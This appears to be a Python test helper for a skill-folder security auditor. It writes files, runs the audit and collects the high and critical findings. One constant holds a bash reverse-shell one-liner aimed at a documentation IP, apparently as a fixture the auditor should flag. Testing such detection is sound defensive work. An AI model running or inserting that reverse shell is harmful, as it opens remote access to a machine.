"""Audit one skill folder written from a dict of files: the verdict and the blocking rules."""

from __future__ import annotations

from pathlib import Path

from skillyard.audit import Auditor

SHELL = "bash -i >& /dev/tcp/192.0.2.10/4444 0>&1"  # inert: a documentation address


def skill(body: str, description: str = "Helps with the build.") -> str:
    return f"---\nname: s\ndescription: {description}\n---\n\n{body}"


def audit_files(tmp_path: Path, files: dict[str, str], description: str = "Helps with the build.",
                default_body: str = "# S\n\nRun the scripts.\n") -> tuple[str, set[str]]:
    """Write `files` (plus a SKILL.md with `default_body` unless given) and audit the folder."""
    folder = tmp_path / "s"
    for rel, text in files.items():
        target = folder / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
    if "SKILL.md" not in files:
        (folder / "SKILL.md").write_text(skill(default_body, description))
    result = Auditor().run_paths([str(folder)])[0]
    return result.verdict, {f.rule for f in result.findings
                            if f.severity in ("high", "critical")}
